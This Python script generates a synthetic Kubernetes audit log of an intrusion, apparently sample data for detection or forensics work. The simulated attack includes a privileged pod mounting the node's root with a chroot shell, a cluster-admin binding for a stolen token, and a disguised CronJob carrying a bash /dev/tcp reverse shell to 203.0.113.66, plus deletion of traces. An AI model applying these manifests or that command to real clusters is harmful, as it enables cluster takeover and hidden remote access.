"""Write ``k8s_intrusion.jsonl``: 26 minutes of a web shop's cluster, with an intrusion in it.

    python samples/make_k8s_intrusion.py            # writes the file beside this script
    python samples/make_k8s_intrusion.py --check    # says whether the file is as made here

The same seed gives the same bytes. ``README.md`` tells the story; ``intrusion()`` below is it.
"""

from __future__ import annotations

import sys
from pathlib import Path

from k8s_cluster import (
    NODES,
    RBAC,
    Actor,
    AuditLog,
    Json,
    binding,
    cluster_binding,
    ref,
    seconds,
    uri,
)
from k8s_everyday import everyday
from k8s_pods import Pod, create, delete, started

OUTPUT = Path(__file__).with_name("k8s_intrusion.jsonl")
SEED = 1959
OUTSIDE = "203.0.113.66"
AUTH = "authorization.k8s.io"


def may_i(log: AuditLog, at: float, actor: Actor) -> None:
    """``kubectl auth can-i``: reviews are logged at Metadata, so the question is not kept."""
    log.add(
        at,
        actor,
        "create",
        f"/apis/{AUTH}/v1/selfsubjectaccessreviews",
        code=201,
        ref=ref("selfsubjectaccessreviews", group=AUTH),
        reason=basic_user(),
    )


def what_may_i(log: AuditLog, at: float, actor: Actor) -> None:
    """``kubectl auth can-i --list``."""
    log.add(
        at,
        actor,
        "create",
        f"/apis/{AUTH}/v1/selfsubjectrulesreviews",
        code=201,
        ref=ref("selfsubjectrulesreviews", group=AUTH),
        reason=basic_user(),
    )


def basic_user() -> str:
    return cluster_binding("system:basic-user", "system:basic-user", 'Group "system:authenticated"')


def intrusion(log: AuditLog, kubelet: Actor) -> None:
    """From a token stolen through the shop's web server to the cluster's keys."""
    agent = "kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47"
    knock(log)
    web = log.service_account(
        "storefront",
        "storefront-web",
        address=OUTSIDE,
        agent=agent,
        pod=f"storefront-web-7c9d8b6f54-{log.suffix()}",
        node="worker-1",
        reason=binding(
            "storefront-web",
            "storefront",
            "storefront-web",
            'ServiceAccount "storefront-web/storefront"',
        ),
    )
    reconnaissance(log, web)
    node_pod = escape(log, web, kubelet)
    addons = log.service_account(
        "platform",
        "addon-manager",
        address=OUTSIDE,
        agent=agent,
        pod="addon-manager-0",
        node="worker-2",
        reason=cluster_binding(
            "addon-manager", "cluster-admin", 'ServiceAccount "addon-manager/platform"'
        ),
    )
    take_over(log, addons, web)
    remain_and_hide(log, addons, node_pod, kubelet)


def knock(log: AuditLog) -> None:
    """Without any credentials: which version is this, and what does it give away?"""
    nobody = Actor(
        username="system:anonymous",
        groups=("system:unauthenticated",),
        address=OUTSIDE,
        agent="curl/8.5.0",
        reason=cluster_binding(
            "system:public-info-viewer",
            "system:public-info-viewer",
            'Group "system:unauthenticated"',
        ),
    )
    log.add(252, nobody, "get", "/version")
    log.refuse(259, nobody, "list", "/api/v1/namespaces", ref("namespaces"))


def reconnaissance(log: AuditLog, web: Actor) -> None:
    """With the web server's token: what may it do, and what lies about?"""
    discovery = cluster_binding(
        "system:discovery", "system:discovery", 'Group "system:authenticated"'
    )
    for path in ("/api", "/apis"):
        log.add(371, web, "get", path + "?timeout=32s", reason=discovery)
    what_may_i(log, 374, web)
    may_i(log, 389, web)
    may_i(log, 396, web)
    for at, reference in (
        (412, ref("namespaces")),
        (418, ref("nodes")),
        (431, ref("secrets")),
        (440, ref("secrets", "kube-system")),
        (447, ref("clusterrolebindings", group=RBAC)),
    ):
        log.refuse(at, web, "list", uri(reference, "limit=500"), reference)
    pods = ref("pods", "storefront")
    log.add(458, web, "list", uri(pods, "limit=500"), ref=pods)
    secrets = ref("secrets", "storefront")
    log.add(470, web, "list", uri(secrets, "limit=500"), ref=secrets)
    for at, name in ((483, "storefront-db"), (491, "payment-gateway")):
        secret = ref("secrets", "storefront", name)
        log.add(at, web, "get", uri(secret), ref=secret)


def escape(log: AuditLog, web: Actor, kubelet: Actor) -> Pod:
    """A privileged pod with the node's root mounted, and a shell in it."""
    pod = Pod(
        namespace="storefront",
        name="web-cache-warmer",
        node="worker-2",
        account="default",
        container={
            "name": "warm",
            "image": "docker.io/library/alpine:3.20",
            "command": ["sleep", "86400"],
            "securityContext": {"privileged": True},
            "volumeMounts": [{"name": "cache", "mountPath": "/cache"}],
        },
        labels={"app": "storefront-web"},
        spec={"hostPID": True},
        volumes=[{"name": "cache", "hostPath": {"path": "/", "type": ""}}],
    )
    elsewhere = ref("pods", "kube-system")
    log.refuse(618, web, "create", uri(elsewhere), elsewhere)
    create(log, 634, web, pod)
    started(log, 636, kubelet, pod, "10.244.2.113")
    shell = ref("pods", "storefront", pod.name, subresource="exec")
    query = (
        "command=chroot&command=%2Fcache&command=sh&container=warm&stdin=true&stdout=true&tty=true"
    )
    log.session(651, web, "get", uri(shell, query), shell, code=101, lasted=188.7, level="Request")
    return pod


def take_over(log: AuditLog, addons: Actor, web: Actor) -> None:
    """On the node lay the token of an add-on manager that somebody made cluster-admin."""
    what_may_i(log, 858, addons)
    secrets = ref("secrets")
    log.add(869, addons, "list", uri(secrets, "limit=500"), ref=secrets)
    for at, name in ((884, "etcd-backup-credentials"), (893, "bootstrap-token-9f3kq2")):
        secret = ref("secrets", "kube-system", name)
        log.add(at, addons, "get", uri(secret), ref=secret)
    name = "storefront-metrics"
    grant: Json = {
        "kind": "ClusterRoleBinding",
        "apiVersion": f"{RBAC}/v1",
        "metadata": {"name": name, "creationTimestamp": None},
        "subjects": [
            {"kind": "ServiceAccount", "name": "storefront-web", "namespace": "storefront"}
        ],
        "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"},
    }
    stored = grant | {
        "metadata": {
            "name": name,
            "uid": log.uid(),
            "resourceVersion": log.resource_version(),
            "creationTimestamp": seconds(962),
        }
    }
    log.add(
        962,
        addons,
        "create",
        uri(ref("clusterrolebindings", group=RBAC), "fieldManager=kubectl-create"),
        code=201,
        ref=ref("clusterrolebindings", "", name, group=RBAC),
        request=grant,
        response=stored,
    )
    admin = cluster_binding(name, "cluster-admin", 'ServiceAccount "storefront-web/storefront"')
    token = ref("serviceaccounts", "kube-system", "node-controller", subresource="token")
    log.add(1007, web, "create", uri(token), code=201, ref=token, reason=admin)
    nodes = ref("nodes")
    log.add(1021, web, "list", uri(nodes, "limit=500"), ref=nodes, reason=admin)


def remain_and_hide(log: AuditLog, addons: Actor, node_pod: Pod, kubelet: Actor) -> None:
    """A cron job that calls home under a harmless name; then the traces go."""
    name = "coredns-healthcheck"
    call = f"bash -c 'exec bash -i &>/dev/tcp/{OUTSIDE}/8443 <&1'"
    container = {
        "name": "check",
        "image": "docker.io/library/bash:5.2",
        "command": ["/bin/sh"],
        "args": ["-c", call],
    }
    job: Json = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": name, "namespace": "kube-system", "creationTimestamp": None},
        "spec": {
            "schedule": "*/30 * * * *",
            "concurrencyPolicy": "Forbid",
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "containers": [container],
                            "restartPolicy": "Never",
                            "serviceAccountName": "node-controller",
                            "hostNetwork": True,
                        }
                    }
                }
            },
        },
        "status": {},
    }
    stored = job | {
        "metadata": {
            "name": name,
            "namespace": "kube-system",
            "uid": log.uid(),
            "resourceVersion": log.resource_version(),
            "creationTimestamp": seconds(1158),
        }
    }
    log.add(
        1158,
        addons,
        "create",
        uri(ref("cronjobs", "kube-system", group="batch"), "fieldManager=kubectl-create"),
        code=201,
        ref=ref("cronjobs", "kube-system", name, group="batch"),
        request=job,
        response=stored,
    )
    delete(log, 1291, addons, node_pod, kubelet)
    events = ref("events", "storefront")
    log.add(1312, addons, "deletecollection", uri(events), ref=events)


def main() -> int:
    log = AuditLog(SEED)
    kubelets = {name: log.node(name) for name in NODES}
    everyday(log, kubelets)
    intrusion(log, kubelets["worker-2"])
    text = log.text()
    if "--check" in sys.argv[1:]:
        same = OUTPUT.is_file() and OUTPUT.read_text(encoding="utf-8") == text
        print(f"{OUTPUT.name}: {'as made here' if same else 'differs from what is made here'}")
        return 0 if same else 1
    OUTPUT.write_text(text, encoding="utf-8")
    print(f"{OUTPUT.name}: {len(log.events)} events, {len(text.encode()) / 1000:.0f} kB")
    return 0


if __name__ == "__main__":
    sys.exit(main())
